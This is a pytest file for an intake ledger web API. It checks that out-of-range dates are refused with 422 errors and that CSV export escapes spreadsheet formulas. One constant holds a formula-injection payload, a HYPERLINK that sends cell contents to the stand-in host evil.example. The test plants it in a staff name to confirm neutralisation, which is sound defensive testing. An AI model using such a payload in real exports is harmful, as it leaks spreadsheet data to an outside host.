"""Issue 12: the ledger and the reports refuse dates outside the hall's range (point 10: these were
500s) and the ledger's CSV neutralises cells a spreadsheet would run as formulas (point 12)."""

import pytest
from intake_ledger_calls import HEAD, SUPERVISION, accept
from intake_roster_calls import put_post

from web_api.csv_cells import read_with_headings

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")'


@pytest.mark.parametrize(
    "query",
    [
        "/ledger?from=0001-01-01&to=0001-01-31",
        "/ledger?from=9999-12-01&to=9999-12-31",
        "/ledger?from=2026-11-01&to=9999-12-31&format=csv",
        "/reports/ratings?month=0001-01",
        "/reports/ratings?month=9999-12",
        "/reports/staff-scores?month=0001-01",
        "/reports/staff-scores?month=9999-12",
    ],
)
def test_r_clock_6_a_period_at_the_ends_of_the_calendar_is_a_422_naming_the_range(intake, web_session, query):
    refused = web_session.get(query, headers=SUPERVISION)
    assert refused.status_code == 422, refused.text
    error = refused.json()["error"]
    assert error["code"] == "validation_failed" and "2099-12-31" in str(error["details"])


def test_r_clock_6_a_ledger_cell_typed_as_a_formula_comes_out_as_text_in_the_csv(intake, web_session):
    # a name on the roster (R-FIRST-1: no longer typed into the acceptance), recorded by a head
    put_post(web_session, backup={"staff_id": "S02", "name": FORMULA, "phone": "0571-1235"})
    case = accept(web_session, first_responder={"staff_id": "S02"}, headers=HEAD)
    query = "/ledger?from=2026-11-23&to=2026-11-23"
    answer = web_session.get(query + "&format=csv", headers=SUPERVISION)
    assert answer.status_code == 200, answer.text
    _, [row] = read_with_headings(answer.content.decode("utf-8"))
    assert (row["case_no"], row["acceptor_name"]) == (case["case_no"], "'" + FORMULA)
    assert row["registered_at"].startswith("2026-11-23T10:00")  # program-written cells unchanged
    [entry] = web_session.get(query, headers=SUPERVISION).json()["rows"]
    assert entry["acceptor_name"] == FORMULA  # JSON is not a spreadsheet: as typed
